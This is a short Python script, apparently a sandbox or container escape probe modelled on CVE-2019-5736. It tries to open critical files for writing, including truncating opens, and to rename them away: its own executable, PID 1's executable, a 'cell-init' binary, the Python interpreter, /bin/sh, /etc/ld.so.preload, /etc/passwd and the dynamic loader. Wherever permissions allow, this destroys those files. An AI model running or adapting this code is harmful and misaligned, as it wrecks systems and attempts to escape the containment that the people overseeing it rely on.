# Overwrites what is running: its interpreter, cell init, the C library. CVE-2019-5736 did that to the container runtime.
import os
for path in ["/proc/self/exe", "/proc/1/exe", "/cell-init", "/usr/bin/python3.13", "/bin/sh", "/etc/ld.so.preload", "/etc/passwd", "/lib64/ld-linux-x86-64.so.2"]:
    for flags in (os.O_WRONLY, os.O_RDWR | os.O_TRUNC, os.O_WRONLY | os.O_CREAT):
        try:
            os.close(os.open(path, flags))
            print("opened", path)
        except OSError:
            pass
    try:
        os.rename(path, "/work/taken")
        print("moved", path)
    except OSError:
        pass
